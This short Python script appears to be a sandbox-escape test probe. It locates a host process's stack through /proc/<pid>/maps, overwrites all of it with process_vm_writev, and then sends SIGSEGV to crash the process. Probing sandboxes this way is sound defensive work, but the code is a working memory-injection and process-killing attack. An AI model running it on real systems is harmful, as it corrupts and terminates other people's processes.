# Tries: a write into the memory of a process of the host: all of its stack is overwritten, and it is woken to fall.
# Origin: process_vm_writev and /proc/pid/mem as injection.

import os, struct

start, end, found = 0x7FFC00000000, 0x7FFC00001000, []
try:
    for line in open(f"/proc/{input['pid']}/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
except OSError as error:
    found.append(str(error))
size = end - start
local = struct.pack("QQ", native.address(b"\xff" * size), size)
found.append(native.call("process_vm_writev", input["pid"], local, 1, struct.pack("QQ", start, size), 1, 0))
if found[-1] > 0:
    os.kill(input["pid"], 11)
found
